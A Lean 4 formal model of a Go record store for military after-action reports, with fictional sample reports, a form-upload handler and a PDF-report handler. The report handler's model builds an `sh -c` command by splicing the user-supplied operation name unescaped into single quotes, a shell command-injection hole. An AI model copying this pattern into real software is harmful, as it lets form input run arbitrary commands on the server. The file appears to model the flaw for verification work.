import Mathlib

/-!
# hs-s3-app: the in-memory AAR record store and its callers

A shallow embedding of `storage/memory.go` (type `MemoryStore`), of the
record type of `models/aar.go`, of the form submission of
`handlers/aar_create.go` and of the command built in
`handlers/aar_report.go`.

Modelling conventions.

* `time.Time` is an instant on the time line, an `Int` counted from the zero
  value of `time.Time`; `After` is `>`.  The clock reading of `time.Now()` is
  the argument `now` of `Create` and `Update`.  `AddDate(0, 0, d)` is the
  parameter `addDays`; the handler reads `Unix()` and the civil date from a
  `ClockReading`.
* The store keeps `*models.AAR` pointers, so the records live in a heap that
  is addressed by pointers (`Ptr`); `Create` and `Update` write through the
  pointer they are handed, exactly as the Go code does.  Go is garbage
  collected, hence every address holds a record (no dangling pointers).
* `map[string]*models.AAR` is an association list without duplicate keys.
  The order in which `range` visits a map is not fixed by the language, so
  every operation that ranges over the map takes the visiting order `ord`
  as an argument; `MapRange s ord` says that `ord` visits every key once.
* `sort.Slice` and `strings.ToLower` belong to the Go standard library and
  are parameters (`sortSlice`, `toLower`); `SortContract` is the documented
  contract of `sort.Slice`.  `insertionSortLessFunc` is the routine that
  `sort.Slice` runs on slices of at most twelve elements.
* The `sync.RWMutex` is held by every operation for its whole duration, so
  the operations are atomic state transformers.
-/

namespace models

/-- Instants of `time.Time`. -/
abbrev Time := Int

/-- The method `Time.After`: `t.After u` reports whether `t` is after `u`. -/
def Time.After (t u : Time) : Bool := decide (u < t)

/-- The struct `Attachment` of `models/aar.go`. -/
structure Attachment where
  ID : String
  AARID : String
  Filename : String
  S3Key : String
  FileSize : Int
  ContentType : String
  UploadedAt : Time
  deriving DecidableEq, Repr

/-- The struct `AAR` of `models/aar.go`, field by field. -/
structure AAR where
  ID : String
  Classification : String
  OperationName : String
  DTG : String
  UnitDesignation : String
  MissionType : String
  Location : String
  DurationStart : String
  DurationEnd : String
  PersonnelCount : Int
  ExecutiveSummary : String
  KeyEvents : String
  WhatWentWell : String
  NeedsImprovement : String
  LessonsLearned : String
  Recommendations : String
  CommandersAssessment : String
  PreparedBy : String
  ReviewedBy : String
  SubmittedDate : Time
  Status : String
  Attachments : List Attachment
  CreatedAt : Time
  UpdatedAt : Time
  deriving DecidableEq, Repr

/-- Mission type constants of `models/aar.go`. -/
def MissionTypeTraining : String := "Training Exercise"

/-- Mission type `Combat Operations`. -/
def MissionTypeCombat : String := "Combat Operations"

/-- Mission type `Humanitarian Assistance`. -/
def MissionTypeHumanitarian : String := "Humanitarian Assistance"

/-- Mission type `Security Cooperation`. -/
def MissionTypeSecurity : String := "Security Cooperation"

/-- Mission type `Other`. -/
def MissionTypeOther : String := "Other"

/-- Classification level `UNCLASSIFIED`. -/
def ClassificationUnclassified : String := "UNCLASSIFIED"

/-- Status `Approved`. -/
def StatusApproved : String := "Approved"

end models

namespace storage

open models

/-- Addresses of `models.AAR` values (`*models.AAR`, never nil). -/
abbrev Ptr := Nat

/-- The memory the record pointers refer to. -/
abbrev Heap := Ptr → AAR

/-- The struct `MemoryStore`: the map `aars` (the mutex is not modelled). -/
structure MemoryStore where
  aars : AList (fun _ : String => Ptr)
  deriving DecidableEq

/-- A program state: the heap of records and the store. -/
structure World where
  heap : Heap
  store : MemoryStore

/-- Overwrite the record at address `p`. -/
def Heap.set (h : Heap) (p : Ptr) (r : AAR) : Heap :=
  fun q => if q = p then r else h q

/-- The pointers held by the map, one per key. -/
def MemoryStore.values (s : MemoryStore) : List Ptr :=
  s.aars.entries.map (fun e => e.2)

/-- A legal visiting order of `range s.aars`: every key exactly once. -/
def MapRange (s : MemoryStore) (ord : List String) : Prop :=
  List.Perm ord s.aars.keys

instance (s : MemoryStore) (ord : List String) : Decidable (MapRange s ord) := by
  unfold MapRange; infer_instance

/-- The values met by `for _, aar := range s.aars` when the keys are visited
in the order `ord`. -/
def rangeValues (s : MemoryStore) (ord : List String) : List Ptr :=
  ord.filterMap (fun k => s.aars.lookup k)

/-- The function `strings.Contains`: `substr` occurs in `s` as a contiguous
block. Both strings are valid UTF-8, so a block of bytes is a block of
characters. -/
def Contains (s substr : String) : Bool :=
  decide (substr.data <:+: s.data)

/-- The comparison passed to `sort.Slice` by `GetAll` and `Search`:
`aars[i].SubmittedDate.After(aars[j].SubmittedDate)`. -/
def lessNewestFirst (h : Heap) (a b : Ptr) : Bool :=
  Time.After (h a).SubmittedDate (h b).SubmittedDate

/-- The method `GetAll`: collect every value of the map, then sort newest
first. The result is the returned slice of pointers. -/
def GetAll (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (w : World) (ord : List String) : List Ptr :=
  let aars := (rangeValues w.store ord).foldl (fun aars aar => aars ++ [aar]) []
  sortSlice (lessNewestFirst w.heap) aars

/-- The method `GetByID`: the pointer stored under `id`, or the not-found
error. -/
def GetByID (w : World) (id : String) : Except String Ptr :=
  match w.store.aars.lookup id with
  | none => Except.error ("AAR not found: " ++ id)
  | some aar => Except.ok aar

/-- The method `Create`: refuse a key that is present; otherwise stamp the three
timestamps through the pointer and store the pointer under the record's ID.
The second component is the returned `error` (`none` is `nil`). -/
def Create (w : World) (aar : Ptr) (now : Time) : World × Option String :=
  if (w.heap aar).ID ∈ w.store.aars then
    (w, some ("AAR already exists: " ++ (w.heap aar).ID))
  else
    let h1 := w.heap.set aar { w.heap aar with CreatedAt := now }
    let h2 := h1.set aar { h1 aar with UpdatedAt := now }
    let h3 := h2.set aar { h2 aar with SubmittedDate := now }
    ({ heap := h3, store := { aars := w.store.aars.insert (h3 aar).ID aar } }, none)

/-- The method `Update`: refuse a key that is absent; otherwise stamp `UpdatedAt`
through the pointer and store the pointer under the record's ID. -/
def Update (w : World) (aar : Ptr) (now : Time) : World × Option String :=
  if ¬ (w.heap aar).ID ∈ w.store.aars then
    (w, some ("AAR not found: " ++ (w.heap aar).ID))
  else
    let h1 := w.heap.set aar { w.heap aar with UpdatedAt := now }
    ({ heap := h1, store := { aars := w.store.aars.insert (h1 aar).ID aar } }, none)

/-- The loop body of `Search`: does the record pass the three filters? -/
def searchMatch (toLower : String → String) (operationName unit missionType : String)
    (aar : AAR) : Bool :=
  let matched := true
  let matched :=
    if operationName != "" && !Contains (toLower aar.OperationName) (toLower operationName)
    then false else matched
  let matched :=
    if unit != "" && !Contains (toLower aar.UnitDesignation) (toLower unit)
    then false else matched
  let matched :=
    if missionType != "" && aar.MissionType != missionType then false else matched
  matched

/-- The method `Search`: range over the map, keep the matching records, sort
newest first. -/
def Search (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (w : World) (ord : List String) (operationName unit missionType : String) : List Ptr :=
  let results := (rangeValues w.store ord).foldl
    (fun results aar =>
      if searchMatch toLower operationName unit missionType (w.heap aar)
      then results ++ [aar] else results) []
  sortSlice (lessNewestFirst w.heap) results

/-- The requirement `sort.Slice` puts on `less`: a strict weak ordering. -/
structure StrictWeak (less : Ptr → Ptr → Bool) : Prop where
  asymm : ∀ a b, less a b = true → less b a = false
  cotrans : ∀ a b c, less a c = true → less a b = true ∨ less b c = true

/-- The contract of `sort.Slice`: the slice is rearranged (no element is
added or dropped) and, when `less` is a strict weak ordering, no later
element is less than an earlier one.  Nothing is promised about ties. -/
structure SortContract (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) : Prop where
  perm : ∀ less l, List.Perm (sortSlice less l) l
  sorted : ∀ less l, StrictWeak less →
    List.Pairwise (fun a b => less b a = false) (sortSlice less l)

/-- One pass of the inner loop of `insertionSortLessFunc`: the new element
`x` moves left past every element it is less than.  The sorted part is held
last element first. -/
def insertLeft (less : Ptr → Ptr → Bool) (x : Ptr) : List Ptr → List Ptr
  | [] => [x]
  | y :: rest => if less x y then y :: insertLeft less x rest else x :: y :: rest

/-- The function `insertionSortLessFunc` of the Go library. -/
def insertionSortLessFunc (less : Ptr → Ptr → Bool) (l : List Ptr) : List Ptr :=
  (l.foldl (fun sortedRev x => insertLeft less x sortedRev) []).reverse

/-- ASCII lower-casing, the behaviour of `strings.ToLower` on ASCII text. -/
def asciiToLower (s : String) : String := String.mk (s.data.map Char.toLower)

/-! ## Example states -/

/-- A record with every field empty or zero. -/
def blankAAR : AAR :=
  { ID := "", Classification := "", OperationName := "", DTG := "", UnitDesignation := "",
    MissionType := "", Location := "", DurationStart := "", DurationEnd := "",
    PersonnelCount := 0, ExecutiveSummary := "", KeyEvents := "", WhatWentWell := "",
    NeedsImprovement := "", LessonsLearned := "", Recommendations := "",
    CommandersAssessment := "", PreparedBy := "", ReviewedBy := "", SubmittedDate := 0,
    Status := "", Attachments := [], CreatedAt := 0, UpdatedAt := 0 }

/-- A heap with four records: two stored ones that share their submission
time, a second record with the identifier `A`, and a record `C`. -/
def exHeap : Heap := fun p =>
  if p = 0 then
    { blankAAR with ID := "A", MissionType := "training exercise",
                    SubmittedDate := 5, CreatedAt := 5, UpdatedAt := 5 }
  else if p = 1 then
    { blankAAR with ID := "B", MissionType := "Training Exercise",
                    SubmittedDate := 5, CreatedAt := 5, UpdatedAt := 5 }
  else if p = 2 then
    { blankAAR with ID := "A", SubmittedDate := 9, CreatedAt := 8, UpdatedAt := 8 }
  else { blankAAR with ID := "C", SubmittedDate := 1, CreatedAt := 2, UpdatedAt := 3 }

/-- The store holding record 0 under `A` and record 1 under `B`. -/
def exStore : MemoryStore := { aars := AList.insert "B" 1 (AList.insert "A" 0 ∅) }

/-- The example state. -/
def exWorld : World := { heap := exHeap, store := exStore }

/-! ## The filter in the words of the specification, and a state without ties -/

/-- The filter of `Search` as the specification words it: every filter is
either empty or satisfied; the two text filters by containment of the
lower-cased query in the lower-cased field, the mission type by equality. -/
def SearchSpec (toLower : String → String) (operationName unit missionType : String)
    (r : AAR) : Prop :=
  (operationName = "" ∨ Contains (toLower r.OperationName) (toLower operationName) = true) ∧
  (unit = "" ∨ Contains (toLower r.UnitDesignation) (toLower unit) = true) ∧
  (missionType = "" ∨ r.MissionType = missionType)

instance (toLower : String → String) (operationName unit missionType : String) (r : AAR) :
    Decidable (SearchSpec toLower operationName unit missionType r) := by
  unfold SearchSpec; infer_instance

/-- The store holding record 0 under `A` and record 3 under `C`; their
submission times differ. -/
def exStoreDistinct : MemoryStore := { aars := AList.insert "C" 3 (AList.insert "A" 0 ∅) }

/-- The example state without ties. -/
def exWorldDistinct : World := { heap := exHeap, store := exStoreDistinct }

/-! ## Sample data, statistics and calls -/

/-- Sample AAR 1, Operation Enduring Shield: the literal `aar1` of
`loadSampleData`. The argument `addDays now d` stands for `now.AddDate(0, 0, d)`. -/
def sampleAAR1 (addDays : Time → Int → Time) (now : Time) : AAR :=
  { ID := "AAR-20251005-0001",
    Classification := ClassificationUnclassified,
    OperationName := "Operation Enduring Shield",
    DTG := "051200ZOCT25",
    UnitDesignation := "3rd Infantry Division, 2nd Brigade Combat Team",
    MissionType := MissionTypeTraining,
    Location := "Fort Stewart, GA",
    DurationStart := "051200ZOCT25",
    DurationEnd := "051800ZOCT25",
    PersonnelCount := 450,
    ExecutiveSummary := "Battalion-level combined arms training exercise focusing on rapid deployment and sustainment operations. Exercise included live-fire maneuvers, logistical coordination, and interoperability drills with supporting units. All training objectives were met with no significant safety incidents.",
    KeyEvents := "0600: Unit assembly and mission brief\n0800: Movement to training area\n1000: Live-fire exercise commenced\n1400: Tactical maneuver phase\n1700: After action review\n1800: Stand down",
    WhatWentWell := "Communications between units exceeded expectations. Logistical support was timely and effective. All personnel demonstrated proficiency in basic combat tasks. Leadership at the platoon level showed strong tactical decision-making.",
    NeedsImprovement := "Coordination with supporting artillery units needs refinement. Some delays in medical evacuation procedures were noted. Night operations revealed gaps in night vision equipment availability.",
    LessonsLearned := "Pre-coordination with supporting elements is critical for mission success. Additional training on CASEVAC procedures is required. Equipment readiness checks must be more thorough before operations.",
    Recommendations := "Increase frequency of integrated training with artillery and air support. Procure additional night vision devices. Conduct quarterly CASEVAC refresher training for all personnel.",
    CommandersAssessment := "Overall excellent performance by the battalion. Unit is combat-ready and capable of executing assigned missions. Recommend continued emphasis on combined arms integration.",
    PreparedBy := "CPT John Smith, S3 Operations Officer",
    ReviewedBy := "LTC Michael Johnson, Battalion Commander",
    Status := StatusApproved,
    SubmittedDate := addDays now (-32),
    CreatedAt := addDays now (-32),
    UpdatedAt := addDays now (-32),
    Attachments := [
      { ID := "att-001",
        AARID := "AAR-20251005-0001",
        Filename := "training_photo_001.jpg",
        S3Key := "aars/AAR-20251005-0001/attachments/training_photo_001.jpg",
        FileSize := 2048576,
        ContentType := "image/jpeg",
        UploadedAt := addDays now (-32) },
      { ID := "att-002",
        AARID := "AAR-20251005-0001",
        Filename := "sitrep.pdf",
        S3Key := "aars/AAR-20251005-0001/attachments/sitrep.pdf",
        FileSize := 524288,
        ContentType := "application/pdf",
        UploadedAt := addDays now (-32) },
      { ID := "att-003",
        AARID := "AAR-20251005-0001",
        Filename := "equipment_status.xlsx",
        S3Key := "aars/AAR-20251005-0001/attachments/equipment_status.xlsx",
        FileSize := 102400,
        ContentType := "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        UploadedAt := addDays now (-32) } ] }

/-- Sample AAR 2, Exercise Iron Sentinel: the literal `aar2` of
`loadSampleData`. The argument `addDays now d` stands for `now.AddDate(0, 0, d)`. -/
def sampleAAR2 (addDays : Time → Int → Time) (now : Time) : AAR :=
  { ID := "AAR-20250920-0002",
    Classification := ClassificationUnclassified,
    OperationName := "Exercise Iron Sentinel",
    DTG := "201430ZSEP25",
    UnitDesignation := "Marine Expeditionary Unit 26",
    MissionType := MissionTypeSecurity,
    Location := "Camp Pendleton, CA / Pacific Ocean",
    DurationStart := "200600ZSEP25",
    DurationEnd := "221800ZSEP25",
    PersonnelCount := 2200,
    ExecutiveSummary := "Multi-national training exercise with allied forces practicing amphibious assault operations and humanitarian assistance/disaster relief scenarios. Exercise included naval surface warfare, air-ground integration, and logistics over the shore operations. Participating nations included Japan, Australia, and South Korea.",
    KeyEvents := "Day 1: Embarkation and movement to sea\nDay 2: Amphibious rehearsal\nDay 3: Full-scale amphibious assault with live-fire\nDay 4: HA/DR scenario and medical operations\nDay 5: Debarkation and equipment accountability",
    WhatWentWell := "Excellent coordination with allied forces. Communications interoperability exceeded previous exercises. Aviation support was responsive and effective. Medical staff demonstrated outstanding capability in mass casualty scenarios.",
    NeedsImprovement := "Landing craft scheduling caused minor delays. Some language barriers with partner nations during complex operations. Weather monitoring and contingency planning needs enhancement.",
    LessonsLearned := "Importance of liaison officers embedded with partner forces. Need for redundant communications systems. Value of cultural awareness training prior to multinational exercises.",
    Recommendations := "Increase number of liaison officers for future multinational exercises. Develop standardized visual signals for operations with language barriers. Conduct additional weather-related contingency training.",
    CommandersAssessment := "MEU demonstrated exceptional operational capability and readiness. Integration with allied forces was seamless. Unit is fully prepared for real-world contingency operations.",
    PreparedBy := "MAJ Sarah Williams, MEU Operations Officer",
    ReviewedBy := "COL Robert Davis, MEU Commander",
    Status := StatusApproved,
    SubmittedDate := addDays now (-47),
    CreatedAt := addDays now (-47),
    UpdatedAt := addDays now (-47),
    Attachments := [
      { ID := "att-004",
        AARID := "AAR-20250920-0002",
        Filename := "amphibious_ops_photo_001.jpg",
        S3Key := "aars/AAR-20250920-0002/attachments/amphibious_ops_photo_001.jpg",
        FileSize := 3145728,
        ContentType := "image/jpeg",
        UploadedAt := addDays now (-47) },
      { ID := "att-005",
        AARID := "AAR-20250920-0002",
        Filename := "tactical_map.png",
        S3Key := "aars/AAR-20250920-0002/attachments/tactical_map.png",
        FileSize := 1572864,
        ContentType := "image/png",
        UploadedAt := addDays now (-47) },
      { ID := "att-006",
        AARID := "AAR-20250920-0002",
        Filename := "exercise_video.mp4",
        S3Key := "aars/AAR-20250920-0002/attachments/exercise_video.mp4",
        FileSize := 52428800,
        ContentType := "video/mp4",
        UploadedAt := addDays now (-47) },
      { ID := "att-007",
        AARID := "AAR-20250920-0002",
        Filename := "allied_coordination_plan.pdf",
        S3Key := "aars/AAR-20250920-0002/attachments/allied_coordination_plan.pdf",
        FileSize := 819200,
        ContentType := "application/pdf",
        UploadedAt := addDays now (-47) },
      { ID := "att-008",
        AARID := "AAR-20250920-0002",
        Filename := "medical_ops_photo.jpg",
        S3Key := "aars/AAR-20250920-0002/attachments/medical_ops_photo.jpg",
        FileSize := 2621440,
        ContentType := "image/jpeg",
        UploadedAt := addDays now (-47) } ] }

/-- Sample AAR 4, Exercise Northern Viking: the literal `aar4` of
`loadSampleData`. The argument `addDays now d` stands for `now.AddDate(0, 0, d)`. -/
def sampleAAR4 (addDays : Time → Int → Time) (now : Time) : AAR :=
  { ID := "AAR-20250815-0004",
    Classification := ClassificationUnclassified,
    OperationName := "Exercise Northern Viking",
    DTG := "151500ZAUG25",
    UnitDesignation := "10th Mountain Division, 1st Brigade",
    MissionType := MissionTypeTraining,
    Location := "Fort Drum, NY / Adirondack Mountains",
    DurationStart := "150600ZAUG25",
    DurationEnd := "171800ZAUG25",
    PersonnelCount := 3500,
    ExecutiveSummary := "Brigade-level cold weather and mountain warfare training exercise. Focused on operations in austere, high-altitude environments with emphasis on cold weather survival, mountain mobility, and logistics in challenging terrain. Exercise prepared unit for potential deployment to arctic regions.",
    KeyEvents := "Day 1: Movement to mountain training area and cold weather acclimatization\nDay 2: Mountain mobility training and technical rope operations\nDay 3: Cold weather survival and bivouac operations\nDay 4: Brigade tactical exercise with opposing force",
    WhatWentWell := "Soldiers demonstrated excellent cold weather discipline. Mountain warfare skills improved significantly. Logistics chain functioned effectively despite challenging terrain. Leadership at all levels adapted well to austere conditions.",
    NeedsImprovement := "Some cold weather equipment shortages were identified. Communications in mountainous terrain remains challenging. Additional medical personnel training for cold weather injuries needed.",
    LessonsLearned := "Importance of proper cold weather equipment maintenance. Need for specialized communications equipment for mountain operations. Value of pre-deployment cold weather training for personnel unfamiliar with arctic conditions.",
    Recommendations := "Procure additional cold weather equipment sets. Invest in mountainous terrain communications solutions. Establish cold weather injury prevention program. Conduct annual cold weather refresher training.",
    CommandersAssessment := "Brigade performed exceptionally well in challenging conditions. Unit is prepared for cold weather and mountain operations. Soldiers demonstrated resilience and adaptability.",
    PreparedBy := "CPT Emily Rodriguez, Brigade S3 Air",
    ReviewedBy := "COL James Anderson, Brigade Commander",
    Status := StatusApproved,
    SubmittedDate := addDays now (-83),
    CreatedAt := addDays now (-83),
    UpdatedAt := addDays now (-83),
    Attachments := [
      { ID := "att-011",
        AARID := "AAR-20250815-0004",
        Filename := "mountain_training_photo.jpg",
        S3Key := "aars/AAR-20250815-0004/attachments/mountain_training_photo.jpg",
        FileSize := 2621440,
        ContentType := "image/jpeg",
        UploadedAt := addDays now (-83) },
      { ID := "att-012",
        AARID := "AAR-20250815-0004",
        Filename := "cold_weather_procedures.pdf",
        S3Key := "aars/AAR-20250815-0004/attachments/cold_weather_procedures.pdf",
        FileSize := 614400,
        ContentType := "application/pdf",
        UploadedAt := addDays now (-83) } ] }

/-- The method `loadSampleData`: three records are allocated (at the addresses
`aar1`, `aar2`, `aar4` handed out by the allocator), filled in, and stored
under their identifiers. -/
def loadSampleData (addDays : Time → Int → Time) (w : World) (aar1 aar2 aar4 : Ptr)
    (now : Time) : World :=
  let h1 := w.heap.set aar1 (sampleAAR1 addDays now)
  let h2 := h1.set aar2 (sampleAAR2 addDays now)
  let h4 := h2.set aar4 (sampleAAR4 addDays now)
  let m1 := w.store.aars.insert (h4 aar1).ID aar1
  let m2 := m1.insert (h4 aar2).ID aar2
  let m4 := m2.insert (h4 aar4).ID aar4
  { heap := h4, store := { aars := m4 } }

/-- The function `NewMemoryStore`: an empty map, then `loadSampleData`. The
heap `h` is the memory at the time of the call. -/
def NewMemoryStore (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) : World :=
  loadSampleData addDays { heap := h, store := { aars := ∅ } } aar1 aar2 aar4 now

/-- The method `AddDate(0, 0, days)` in a zone without clock changes, with
instants counted in seconds: every day has 86400 seconds. -/
def addDaysUTC (t : Time) (days : Int) : Time := t + days * 86400

/-- A `map[string]int` of counters. -/
abbrev Counts := AList (fun _ : String => Int)

/-- The statement `m[k]++`: a missing key counts as zero. -/
def Counts.incr (m : Counts) (k : String) : Counts :=
  m.insert k ((m.lookup k).getD 0 + 1)

/-- The map returned by `GetStats`, with its three entries `total`,
`by_mission_type` and `by_status`. -/
structure Stats where
  total : Int
  by_mission_type : Counts
  by_status : Counts

/-- The method `GetStats`: the size of the map and two counting passes over
it, each with its own visiting order. -/
def GetStats (w : World) (ord₁ ord₂ : List String) : Stats :=
  let total : Int := w.store.aars.entries.length
  let missionTypes := (rangeValues w.store ord₁).foldl
    (fun missionTypes aar => missionTypes.incr (w.heap aar).MissionType) (∅ : Counts)
  let statuses := (rangeValues w.store ord₂).foldl
    (fun statuses aar => statuses.incr (w.heap aar).Status) (∅ : Counts)
  { total := total, by_mission_type := missionTypes, by_status := statuses }

/-- The calls a client can make on a `MemoryStore`, with the clock readings
and map visiting orders they meet. -/
inductive Call where
  | create (aar : Ptr) (now : Time)
  | update (aar : Ptr) (now : Time)
  | getByID (id : String)
  | getAll (ord : List String)
  | search (ord : List String) (operationName unit missionType : String)
  | getStats (ord₁ ord₂ : List String)

/-- The state after a call. `GetByID`, `GetAll`, `Search` and `GetStats`
assign neither to the map nor through a record pointer. -/
def Call.after (w : World) : Call → World
  | Call.create aar now => (Create w aar now).1
  | Call.update aar now => (Update w aar now).1
  | Call.getByID _ => w
  | Call.getAll _ => w
  | Call.search _ _ _ _ => w
  | Call.getStats _ _ => w

/-- The states a program reaches from `NewMemoryStore()` by calls on the
store; in between, a client may build or edit records that the store does not
hold. -/
inductive Reachable (addDays : Time → Int → Time) : World → Prop where
  | init (h : Heap) (aar1 aar2 aar4 : Ptr) (now : Time) :
      aar1 ≠ aar2 → aar1 ≠ aar4 → aar2 ≠ aar4 →
      Reachable addDays (NewMemoryStore addDays h aar1 aar2 aar4 now)
  | call (w : World) (c : Call) : Reachable addDays w → Reachable addDays (c.after w)
  | prepare (w : World) (p : Ptr) (r : AAR) : Reachable addDays w → p ∉ w.store.values →
      Reachable addDays { heap := w.heap.set p r, store := w.store }

/-- The freshly seeded store, with the sample records at the addresses 0, 1
and 2 and the seeding time 10000000. -/
def seededWorld : World := NewMemoryStore addDaysUTC exHeap 0 1 2 10000000

/-- A state in which a client has rewritten the `ID` of the record stored
under `A` to `Z`, through the pointer that `GetByID` returned. -/
def exWorldAliased : World :=
  { heap := fun p =>
      if p = 0 then
        { blankAAR with ID := "Z", SubmittedDate := 5, CreatedAt := 5, UpdatedAt := 5 }
      else blankAAR,
    store := { aars := AList.insert "A" 0 ∅ } }

end storage

/-! ## The handlers

`handlers/aar_create.go` (form submission) and `handlers/aar_report.go`
(report generation). The HTTP request, the object store and the clock are
inputs: a request carries the outcome each library call on it will have. -/

namespace handlers

open models storage

/-- What `handleCreateSubmission` reads from `now := time.Now()`: the value
itself, `now.Unix()`, and the civil date that `now.Format` prints. -/
structure ClockReading where
  instant : Time
  unix : Int
  year : Int
  month : Int
  day : Int

/-- The function `appendInt` of package `time`: a minus sign for a negative
number, then the decimal digits, padded with leading zeros to `width`. -/
def appendInt (x : Int) (width : Nat) : List Char :=
  let digits := Nat.toDigits 10 x.natAbs
  (if x < 0 then ['-'] else []) ++ List.replicate (width - digits.length) '0' ++ digits

/-- The call `now.Format("20060102")`: four-digit year, two-digit month,
two-digit day. -/
def format20060102 (now : ClockReading) : String :=
  String.mk (appendInt now.year 4 ++ appendInt now.month 2 ++ appendInt now.day 2)

/-- The verb `%04d` of `fmt.Sprintf`: sign and decimal digits, padded with
zeros after the sign to a total width of four. -/
def sprintf04d (v : Int) : String :=
  let digits := Nat.toDigits 10 v.natAbs
  let sign := if v < 0 then ['-'] else []
  String.mk (sign ++ List.replicate (4 - (sign.length + digits.length)) '0' ++ digits)

/-- The identifier built by `handleCreateSubmission`:
`fmt.Sprintf("AAR-%s-%04d", now.Format("20060102"), now.Unix()%10000)`. The
operator `%` of Go truncates toward zero. -/
def aarID (now : ClockReading) : String :=
  "AAR-" ++ format20060102 now ++ "-" ++ sprintf04d (Int.tmod now.unix 10000)

/-- One entry of `r.MultipartForm.File["attachments"]`, with the outcome of
the calls made on it: the error of `fileHeader.Open()`, the error of
`s3Client.UploadFile`, and the reading of `time.Now().UnixNano()` taken when
the attachment record is built. -/
structure FileHeader where
  Filename : String
  Size : Int
  ContentType : String
  openErr : Option String
  uploadErr : Option String
  unixNano : Int

/-- The request as the handler reads it: the error of `ParseMultipartForm`,
the form values, and the uploaded files. -/
structure Request where
  parseErr : Option String
  classification : String
  operation_name : String
  dtg : String
  unit_designation : String
  mission_type : String
  location : String
  duration_start : String
  duration_end : String
  personnel_count : String
  executive_summary : String
  key_events : String
  what_went_well : String
  needs_improvement : String
  lessons_learned : String
  recommendations : String
  commanders_assessment : String
  prepared_by : String
  reviewed_by : String
  status : String
  attachments : List FileHeader

/-- The state of the upload loop: the attachment records appended to the AAR,
the keys of the objects uploaded, and the error that ended the loop. -/
structure Uploads where
  attachments : List Attachment
  uploaded : List String
  err : Option String

/-- The loop `for _, fileHeader := range files`: open, upload, append the
attachment record; the first failure ends the handler. -/
def uploadLoop (aarID : String) (now : ClockReading) :
    List FileHeader → List Attachment → List String → Uploads
  | [], attachments, uploaded => { attachments := attachments, uploaded := uploaded, err := none }
  | fileHeader :: rest, attachments, uploaded =>
    match fileHeader.openErr with
    | some err =>
      { attachments := attachments, uploaded := uploaded,
        err := some ("error opening file: " ++ err) }
    | none =>
      let s3Key := "aars/" ++ aarID ++ "/attachments/" ++ fileHeader.Filename
      match fileHeader.uploadErr with
      | some err =>
        { attachments := attachments, uploaded := uploaded,
          err := some ("error uploading file to S3: " ++ err) }
      | none =>
        let attachment : Attachment :=
          { ID := "att-" ++ toString fileHeader.unixNano,
            AARID := aarID,
            Filename := fileHeader.Filename,
            S3Key := s3Key,
            FileSize := fileHeader.Size,
            ContentType := fileHeader.ContentType,
            UploadedAt := now.instant }
        uploadLoop aarID now rest (attachments ++ [attachment]) (uploaded ++ [s3Key])

/-- What a run of `handleCreateSubmission` leaves behind: the state, the keys
of the objects uploaded to the bucket, and the two arguments `err` and
`aarID` of the closing call of `showCreateForm`. -/
structure Outcome where
  world : World
  uploaded : List String
  formErr : Option String
  formAARID : String

/-- The zero value of `time.Time`, from which instants are counted. -/
def zeroTime : Time := 0

/-- The literal `&models.AAR{...}` of `handleCreateSubmission`: the generated
identifier, the form values, the parsed personnel count, an empty attachment
list and zero timestamps. `atoi` is the value returned by `strconv.Atoi`. -/
def formRecord (atoi : String → Int) (r : Request) (now : ClockReading) : AAR :=
  let aarID := aarID now
  let personnelCount : Int := if r.personnel_count != "" then atoi r.personnel_count else 0
  { ID := aarID,
    Classification := r.classification,
    OperationName := r.operation_name,
    DTG := r.dtg,
    UnitDesignation := r.unit_designation,
    MissionType := r.mission_type,
    Location := r.location,
    DurationStart := r.duration_start,
    DurationEnd := r.duration_end,
    PersonnelCount := personnelCount,
    ExecutiveSummary := r.executive_summary,
    KeyEvents := r.key_events,
    WhatWentWell := r.what_went_well,
    NeedsImprovement := r.needs_improvement,
    LessonsLearned := r.lessons_learned,
    Recommendations := r.recommendations,
    CommandersAssessment := r.commanders_assessment,
    PreparedBy := r.prepared_by,
    ReviewedBy := r.reviewed_by,
    SubmittedDate := zeroTime,
    Status := r.status,
    Attachments := [],
    CreatedAt := zeroTime,
    UpdatedAt := zeroTime }

/-- The block `if s3Client != nil { ... }` of `handleCreateSubmission`: the
upload loop when a client is configured, nothing otherwise. -/
def runUploads (s3Client : Bool) (r : Request) (now : ClockReading) : Uploads :=
  if s3Client then uploadLoop (aarID now) now r.attachments [] []
  else { attachments := [], uploaded := [], err := none }

/-- The state when the upload block is left: the record the handler
allocated at the address `aar` holds the form values and the attachment
records appended so far; the store is untouched. -/
def afterUploads (atoi : String → Int) (w : World) (aar : Ptr) (r : Request)
    (s3Client : Bool) (now : ClockReading) : World :=
  { heap := w.heap.set aar
      { formRecord atoi r now with Attachments := (runUploads s3Client r now).attachments },
    store := w.store }

/-- The function `handleCreateSubmission`. `aar` is the address of the record
the handler allocates, `s3Client` tells whether the client is non-nil, `now`
is the handler's clock reading and `createNow` the one `store.Create`
takes. -/
def handleCreateSubmission (atoi : String → Int) (w : World) (aar : Ptr) (r : Request)
    (s3Client : Bool) (now : ClockReading) (createNow : Time) : Outcome :=
  match r.parseErr with
  | some err =>
    { world := w, uploaded := [], formErr := some ("error parsing form: " ++ err),
      formAARID := "" }
  | none =>
    let ups := runUploads s3Client r now
    let w1 := afterUploads atoi w aar r s3Client now
    match ups.err with
    | some err => { world := w1, uploaded := ups.uploaded, formErr := some err, formAARID := "" }
    | none =>
      match Create w1 aar createNow with
      | (w2, some err) =>
        { world := w2, uploaded := ups.uploaded,
          formErr := some ("error saving AAR: " ++ err), formAARID := "" }
      | (w2, none) =>
        { world := w2, uploaded := ups.uploaded, formErr := none, formAARID := aarID now }

/-- The arguments of a call of `exec.Command`: the program and its argument
list. -/
structure Command where
  name : String
  args : List String

/-- The command `GenerateReportHandler` builds for the record `aar`:
`exec.Command("sh", "-c", cmdStr)` with `cmdStr` the result of
`fmt.Sprintf("wkhtmltopdf --title '%s' %s %s", ...)`. -/
def GenerateReportHandler_cmd (aar : AAR) (tmpHTMLFile tmpPDFFile : String) : Command :=
  let cmdStr := "wkhtmltopdf --title '" ++ aar.OperationName ++ "' " ++ tmpHTMLFile ++ " " ++
    tmpPDFFile
  { name := "sh", args := ["-c", cmdStr] }

/-- The last four decimal digits of `n`, thousands first, as characters. -/
def digits4 (n : Nat) : List Char :=
